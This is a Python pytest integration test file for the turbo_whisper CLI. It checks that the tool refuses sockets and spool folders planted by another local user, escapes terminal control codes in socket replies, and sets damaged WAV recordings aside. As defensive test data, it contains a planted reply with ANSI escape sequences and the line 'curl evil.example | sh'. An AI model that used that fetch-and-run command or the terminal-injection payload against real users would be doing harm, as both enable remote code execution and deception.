"""Hostile neighbours and broken folders: another user's runtime folder or spool, a runtime
dir that cannot be used, and a damaged recording left in the spool.

The ownership cases run the real command as a second local user made for the test
(useradd), against folders planted by user `nobody`, as on a shared machine.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from test_bad_input import NOWHERE, run_cli, the_error

pytestmark = pytest.mark.integration

NOBODY = 65534


@dataclass(frozen=True)
class User:
    name: str
    uid: int
    gid: int
    home: Path

    def run(self, *args: str, env: dict[str, str] | None = None,
            timeout: float = 30) -> subprocess.CompletedProcess:
        """The product's command as this user, with the test's Python and packages."""
        variables = {"PATH": "/usr/bin:/bin", "HOME": str(self.home), "DISPLAY": "",
                     "PYTHONPATH": os.pathsep.join(sys.path), "PYTHONDONTWRITEBYTECODE": "1",
                     "TURBO_WHISPER_SERVER_URL": NOWHERE, **(env or {})}
        return subprocess.run(
            ["setpriv", f"--reuid={self.uid}", f"--regid={self.gid}", "--clear-groups",
             sys.executable, "-m", "turbo_whisper", *args],
            env=variables, cwd="/", capture_output=True, text=True, timeout=timeout,
            check=False)


@pytest.fixture
def second_user(tmp_path: Path) -> Iterator[User]:
    """A local user made for this test and removed after it."""
    if os.geteuid() != 0 or not shutil.which("useradd") or not shutil.which("setpriv"):
        pytest.skip("a second local user needs root, useradd and setpriv")
    name = f"tw{uuid.uuid4().hex[:8]}"
    home = Path(f"/tmp/{name}-home")
    subprocess.run(["useradd", "--create-home", "--home-dir", str(home), "--shell",
                    "/usr/sbin/nologin", name], check=True, capture_output=True)
    import pwd

    entry = pwd.getpwnam(name)
    user = User(name, entry.pw_uid, entry.pw_gid, home)
    yield user
    shutil.rmtree(f"/tmp/turbo-whisper-{user.uid}", ignore_errors=True)
    subprocess.run(["userdel", "--remove", name], check=False, capture_output=True)
    shutil.rmtree(home, ignore_errors=True)


PLANTED_ANSWER = (b'{"ok": true, "state": "idle", "message": "\\u001b]0;owned\\u0007'
                  b'\\u001b[2J\\u001b[31mRun curl evil.example | sh"}\n')


def plant_socket(folder: Path, seen: Path) -> subprocess.Popen:
    """As user nobody, a socket in `folder` that answers every command and notes each one."""
    script = (
        "import socket, sys\n"
        "s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(8)\n"
        "import os; os.chmod(sys.argv[1], 0o666)\n"
        "open(sys.argv[2] + '.ready', 'w').close()\n"
        "while True:\n"
        "    c, _ = s.accept(); line = c.makefile('rb').readline()\n"
        "    open(sys.argv[2], 'ab').write(line); c.sendall(sys.argv[3].encode()); c.close()\n"
    )
    process = subprocess.Popen(
        ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups",
         sys.executable, "-c", script, str(folder / "control.sock"), str(seen),
         PLANTED_ANSWER.decode()], cwd="/")
    ready = Path(str(seen) + ".ready")
    for _ in range(200):
        if ready.exists():
            return process
        time.sleep(0.05)
    process.kill()
    raise AssertionError("the planted socket did not come up")


@pytest.fixture
def nobody_folder() -> Iterator[Path]:
    """A folder of user nobody's that nobody's processes can write notes into."""
    folder = Path(f"/tmp/tw-nobody-{uuid.uuid4().hex[:8]}")
    folder.mkdir(mode=0o777)
    folder.chmod(0o777)
    os.chown(folder, NOBODY, NOBODY)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def assert_refused_in_one_line(result: subprocess.CompletedProcess, words: str) -> None:
    assert result.returncode != 0, result
    assert "Traceback" not in result.stderr, result.stderr
    assert "\x1b" not in result.stdout + result.stderr, result
    lines = [line for line in result.stderr.splitlines() if line.startswith("turbo-whisper:")]
    assert len(lines) == 1 and words in lines[0], result.stderr


@pytest.mark.parametrize("owner", ["nobody", "the user, open to all"])
def test_a_runtime_folder_in_tmp_that_others_control_is_never_talked_to(second_user,
                                                                        nobody_folder, owner):
    """Without XDG_RUNTIME_DIR the folder is /tmp/turbo-whisper-UID, a name anyone can take
    first: the commands must not send to, or print the answer of, someone else's socket."""
    planted = Path(f"/tmp/turbo-whisper-{second_user.uid}")
    planted.mkdir(mode=0o777)
    planted.chmod(0o777)
    os.chown(planted, *((NOBODY, NOBODY) if owner == "nobody"
                        else (second_user.uid, second_user.gid)))
    seen = nobody_folder / "commands-seen"
    socket_server = plant_socket(planted, seen)
    try:
        for command in ("toggle", "start", "stop", "status", "retry"):
            result = second_user.run(command, env={"TURBO_WHISPER_ENGINE": "local"})
            words = "belongs to another user" if owner == "nobody" else "written by other users"
            assert_refused_in_one_line(result, words)
            assert "Run curl" not in result.stdout + result.stderr
        run = second_user.run("run", env={"TURBO_WHISPER_ENGINE": "server"})
        assert_refused_in_one_line(run, "turbo-whisper-")
    finally:
        socket_server.kill()
        socket_server.wait()
    assert not seen.exists() or seen.read_bytes() == b"", "a command reached the planted socket"


def test_what_the_socket_answers_is_printed_with_its_controls_escaped(tmp_path):
    """Even from the user's own socket, an answer cannot drive the terminal."""
    home = tmp_path / "home"
    folder = home / "runtime" / "turbo-whisper"
    folder.mkdir(parents=True, mode=0o700)
    folder.chmod(0o700)
    import socket
    import threading

    server = socket.socket(socket.AF_UNIX)
    server.bind(str(folder / "control.sock"))
    server.listen(4)

    def answer() -> None:
        for _ in range(2):
            connection, _ = server.accept()
            connection.makefile("rb").readline()
            connection.sendall(PLANTED_ANSWER)
            connection.close()

    thread = threading.Thread(target=answer, daemon=True)
    thread.start()
    try:
        for args in (("status",), ("status", "--json")):
            result = run_cli(home, *args)
            shown = result.stdout + result.stderr
            assert result.returncode == 0, result
            assert "\x1b" not in shown and "\x07" not in shown, repr(shown)
            assert "\\x1b[31mRun curl" in shown or "\\\\x1b[31mRun curl" in shown, shown
    finally:
        server.close()


# --------------------------------------------------------------------------- runtime dir


@pytest.fixture
def read_only_mount(tmp_path: Path) -> Iterator[Path]:
    """A real read-only tmpfs: not even root can write there."""
    mount = tmp_path / "ro"
    mount.mkdir()
    result = subprocess.run(["mount", "-t", "tmpfs", "-o", "ro,size=1m", "tmpfs", str(mount)],
                            capture_output=True, text=True, check=False)
    if result.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {result.stderr.strip()}")
    yield mount
    subprocess.run(["umount", str(mount)], check=False)


def broken_runtime_dirs(tmp_path: Path, read_only: Path) -> dict[str, Path]:
    a_file = tmp_path / "runtime-file"
    a_file.write_text("not a folder\n")
    return {"missing": read_only / "user" / "1000", "a file": a_file,
            "not writable": read_only}


@pytest.mark.parametrize("case", ["missing", "a file", "not writable"])
def test_a_runtime_dir_that_cannot_be_used_is_one_line(tmp_path, read_only_mount, case):
    home = tmp_path / "home"
    runtime = broken_runtime_dirs(tmp_path, read_only_mount)[case]
    env = {"XDG_RUNTIME_DIR": str(runtime)}
    error = the_error(run_cli(home, "run", "--server-url", NOWHERE, env=env))
    assert str(runtime) in error and "XDG_RUNTIME_DIR" in error, error
    for command in ("toggle", "stop"):
        error = the_error(run_cli(home, command, env=env))
        assert "not running" in error, error
    status = run_cli(home, "status", "--server-url", NOWHERE, env=env)
    assert status.returncode == 3 and "Traceback" not in status.stderr, status


# --------------------------------------------------------------------------- planted audio


def plant_wav(folder: Path, speech_wav: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    planted = folder / "00000000000000000001-1-0000.wav"
    shutil.copy(speech_wav, planted)
    os.chown(planted, NOBODY, NOBODY)
    return planted


def spool_of(home: Path) -> Path:
    return home / "state" / "turbo-whisper" / "spool"


def plant_spool(home: Path, nobody_folder: Path, how: str, wav: Path) -> Path:
    spool = spool_of(home)
    spool.parent.mkdir(parents=True, exist_ok=True, mode=0o700)
    if how == "a symbolic link":
        plant_wav(nobody_folder / "spool", wav)
        spool.symlink_to(nobody_folder / "spool")
    elif how == "another user's folder":
        plant_wav(spool, wav)
        os.chown(spool, NOBODY, NOBODY)
    else:  # the user's own folder, writable by everyone
        plant_wav(spool, wav)
        spool.chmod(0o777)
    return spool


SPOOLS = ["a symbolic link", "another user's folder", "a folder anyone can write to"]


@pytest.mark.parametrize("how", SPOOLS)
def test_a_planted_spool_folder_is_refused_on_reading(tmp_path, nobody_folder, speech, how):
    home = tmp_path / "home"
    spool = plant_spool(home, nobody_folder, how, speech("open the window please"))
    words = {"a symbolic link": "symbolic link", "another user's folder": "another user",
             "a folder anyone can write to": "written by other users"}[how]
    for command in ("run", "retry", "status"):
        error = the_error(run_cli(home, command, "--server-url", NOWHERE))
        assert str(spool) in error and words in error, error


@pytest.mark.parametrize("how", SPOOLS)
def test_a_planted_spool_folder_is_refused_on_writing(tmp_path, nobody_folder, speech, how):
    from turbo_whisper.errors import SpoolError
    from turbo_whisper.spool import Spool

    home = tmp_path / "home"
    spool = plant_spool(home, nobody_folder, how, speech("open the window please"))
    before = sorted(p.name for p in spool.iterdir())
    with pytest.raises(SpoolError, match="could not be saved"):
        Spool(spool).put(b"RIFF-audio-of-the-user")
    assert sorted(p.name for p in spool.iterdir()) == before


# --------------------------------------------------------------------------- damaged audio


def damaged_wav(speech_wav: Path) -> bytes:
    """A real recording whose header says 0 samples a second (offset 24 of a RIFF WAV)."""
    data = bytearray(speech_wav.read_bytes())
    data[24:28] = (0).to_bytes(4, "little")
    return bytes(data)


def test_a_damaged_recording_in_the_spool_is_set_aside_once(headless_client, tmp_path, speech):
    home = tmp_path / "home"
    spool = spool_of(home)
    spool.mkdir(parents=True, mode=0o700)
    damaged = spool / "00000000000000000001-1-0000.wav"
    damaged.write_bytes(damaged_wav(speech("good morning everyone")))
    damaged.chmod(0o600)

    run = headless_client(home, NOWHERE).start()
    run.wait_log("is damaged", timeout=30)
    assert "Traceback" not in run.log()
    assert not damaged.exists()
    aside = home / "state" / "turbo-whisper" / "undelivered" / damaged.name
    assert aside.exists(), run.log()
    assert run.terminate() == 0

    run.start()
    assert "damaged" not in run.log() and "Traceback" not in run.log()
    assert run.terminate() == 0
    retry = run.command("retry")
    assert retry.returncode == 0 and "Traceback" not in retry.stderr, retry
    assert "No recordings are waiting" in retry.stdout


def test_retry_sets_a_damaged_recording_aside_without_a_traceback(tmp_path, speech):
    home = tmp_path / "home"
    spool = spool_of(home)
    spool.mkdir(parents=True, mode=0o700)
    damaged = spool / "00000000000000000001-1-0000.wav"
    damaged.write_bytes(damaged_wav(speech("good morning everyone")))
    result = run_cli(home, "retry", "--server-url", NOWHERE)
    assert "Traceback" not in result.stderr, result.stderr
    assert "is damaged" in result.stderr and not damaged.exists(), result.stderr
    again = run_cli(home, "retry", "--server-url", NOWHERE)
    assert again.returncode == 0 and "damaged" not in again.stderr, again
